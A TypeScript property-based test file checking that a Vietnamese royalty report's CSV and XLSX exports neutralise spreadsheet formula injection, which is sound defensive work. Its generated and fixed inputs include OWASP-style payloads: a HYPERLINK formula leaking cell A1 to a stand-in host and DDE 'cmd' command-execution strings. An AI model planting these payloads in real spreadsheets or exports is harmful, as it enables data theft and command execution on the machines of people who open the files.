// The exports' cell encoding against generated hostile text (fast-check): the CSV parsed back with
// csv-parse, the XLSX with exceljs. Fixed seed when CI is set; locally a random seed, printed, so
// a failure can be replayed with FC_SEED=<seed>.
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { toCsv } from './csv';
import { toXlsx } from './xlsx';
import type { Column, Sheet } from './sheet';

const seed = Number(process.env.FC_SEED ?? (process.env.CI ? 22 : Date.now() % 2 ** 31));
const runs = process.env.CI ? 300 : 200;
console.log(`exports security properties: fast-check seed ${seed} (replay with FC_SEED=${seed})`);

/** What a spreadsheet may run as a formula when a cell starts with it (OWASP, ASVS 5.0's NUL, the full-width forms). */
const TRIGGER = /^[=+\-@\t\r\0\uFF1D\uFF0B\uFF0D\uFF20]/;

const COLUMNS: Column[] = [
  { header: 'Tin bài', key: 'title', kind: 'text' },
  { header: 'Cộng tác viên', key: 'contributor', kind: 'text' },
  { header: 'Hệ số', key: 'coefficient', kind: 'decimal' },
  { header: 'Thành tiền (đồng)', key: 'amount', kind: 'money', sum: true },
];

/** Well-formed text (no lone surrogate, which UTF-8 cannot carry), often opening with a formula. */
const hostileText = fc
  .tuple(
    fc.constantFrom('', '', '=', '+', '-', '@', '\t', '\r', '\0', '\n', ' ', '＝', '＋', '－', '＠', "'", '"', ',', ';', '_x0041_'),
    fc.oneof(
      fc.string({ unit: 'binary', maxLength: 30 }),
      fc.constantFrom(
        'HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
        "cmd|' /C calc'!A0",
        "SUM(1+1)*cmd|' /C calc'!A0",
        '1+1',
        'A1',
        '2+3+cmd|...'
      )
    ),
    fc.string({ unit: 'grapheme', maxLength: 10 })
  )
  .map(([head, body, tail]) => (head + body + tail).replace(/[\uD800-\uDFFF]/g, '\uFFFD'));

/** Integer amounts of either sign (an adjustment may be negative) and decimal coefficients. */
const row = fc.record({
  title: hostileText,
  contributor: hostileText,
  coefficient: fc.oneof(
    fc.constant(null),
    fc.integer({ min: -500, max: 500 }).map((n) => n / 10 + 0)
  ),
  amount: fc.integer({ min: -10_000_000_000, max: 10_000_000_000 }),
});

const sheetOf = (rows: Array<Record<string, unknown>>, title: string): Sheet => ({
  name: 'Nhuận bút',
  title,
  // Never empty: without a subtitle the header row moves up (the XLSX test reads it at row 4).
  subtitle: `@${title}`,
  columns: COLUMNS,
  rows,
  empty: 'Không có dữ liệu trong tháng 11/2026.',
  totalLabel: 'Tổng cộng',
});

const property = { seed, numRuns: runs };

describe('report exports (security: formula injection)', () => {
  test('security: a CSV cell never starts a formula; text comes back as typed after the neutralising quote, numbers stay numbers', () => {
    fc.assert(
      fc.property(fc.array(row, { maxLength: 8 }), (rows) => {
        const csv = toCsv(sheetOf(rows, 'x'));
        const records: string[][] = parse(csv, { bom: true, relax_column_count: false });
        expect(records[0]).toEqual(COLUMNS.map((c) => c.header));
        const body = records.slice(1, 1 + rows.length);
        rows.forEach((original, i) => {
          const [title, contributor, coefficient, amount] = body[i];
          for (const [cell, text] of [
            [title, original.title],
            [contributor, original.contributor],
          ]) {
            // Neutralised exactly when the text opens with a trigger: one quote in front, nothing else changed.
            expect(cell).toBe(TRIGGER.test(text) ? `'${text}` : text);
            expect(TRIGGER.test(cell)).toBe(false);
          }
          // Numbers are written as plain numerals, which spreadsheets read as numbers, never as formulas.
          expect(amount).toMatch(/^-?\d+$/);
          expect(Number(amount)).toBe(original.amount);
          if (original.coefficient === null) expect(coefficient).toBe('');
          else expect(Number(coefficient)).toBe(original.coefficient);
        });
        // An empty sheet holds one row saying so before its total.
        if (rows.length === 0) expect(records[1]).toEqual(['Không có dữ liệu trong tháng 11/2026.', '', '', '']);
        const total = records[1 + Math.max(rows.length, 1)];
        expect(total[0]).toBe('Tổng cộng');
        expect(Number(total[3])).toBe(rows.reduce((sum, r) => sum + r.amount, 0));
      }),
      property
    );
  });

  test('security: every XLSX text cell is a string holding exactly the text; numbers are numbers; the only formulas are the totals', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(row, { maxLength: 8 }), hostileText, async (rows, title) => {
        const workbook = new ExcelJS.Workbook();
        await workbook.xlsx.load((await toXlsx([sheetOf(rows, title)])) as unknown as ArrayBuffer);
        const ws = workbook.worksheets[0];
        const text = (cell: ExcelJS.Cell, expected: string) => {
          // An empty text is an empty cell; anything else a string cell, never a formula or rich text.
          if (expected === '') return expect([ExcelJS.ValueType.Null, ExcelJS.ValueType.String]).toContain(cell.type);
          expect(cell.type).toBe(ExcelJS.ValueType.String);
          expect(cell.value).toBe(expected);
        };
        text(ws.getCell(1, 1), title);
        text(ws.getCell(2, 1), `@${title}`);
        COLUMNS.forEach((column, c) => text(ws.getCell(4, c + 1), column.header));
        rows.forEach((original, i) => {
          const r = ws.getRow(5 + i);
          text(r.getCell(1), original.title);
          text(r.getCell(2), original.contributor);
          if (original.coefficient === null) expect(r.getCell(3).type).toBe(ExcelJS.ValueType.Null);
          else expect(r.getCell(3).value).toBe(original.coefficient);
          expect(r.getCell(4).type).toBe(ExcelJS.ValueType.Number);
          expect(r.getCell(4).value).toBe(original.amount);
        });
        const formulas: string[] = [];
        ws.eachRow((r) => r.eachCell((cell) => cell.type === ExcelJS.ValueType.Formula && formulas.push(cell.address)));
        if (rows.length === 0) text(ws.getCell(5, 1), 'Không có dữ liệu trong tháng 11/2026.');
        const totalRow = 5 + Math.max(rows.length, 1);
        expect(formulas).toEqual([`D${totalRow}`]);
        text(ws.getCell(totalRow, 1), 'Tổng cộng');
      }),
      { ...property, numRuns: Math.ceil(runs / 4) }
    );
  });

  test('security: the formulas from the OWASP page are written as quoted text in CSV and as string cells in XLSX', async () => {
    const payloads = [
      '=1+1',
      '+1+1',
      '-1+1',
      '@SUM(1+1)',
      '\t=1+1',
      '\r=1+1',
      '=HYPERLINK("http://evil.example","Bấm")',
      "=cmd|' /C calc'!A0",
    ];
    const rows = payloads.map((title, i) => ({ title, contributor: 'Nguyễn Văn A', coefficient: 1.5, amount: i % 2 ? -1000 : 1000 }));
    const records: string[][] = parse(toCsv(sheetOf(rows, 'x')), { bom: true });
    expect(records.slice(1, 1 + payloads.length).map((r) => r[0])).toEqual(payloads.map((p) => `'${p}`));
    expect(records.slice(1, 1 + payloads.length).map((r) => r[3])).toEqual(payloads.map((_, i) => (i % 2 ? '-1000' : '1000')));
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await toXlsx([sheetOf(rows, 'x')])) as unknown as ArrayBuffer);
    const cells = payloads.map((_, i) => workbook.worksheets[0].getCell(5 + i, 1));
    expect(cells.map((c) => [c.type, c.value])).toEqual(payloads.map((p) => [ExcelJS.ValueType.String, p]));
  });
});
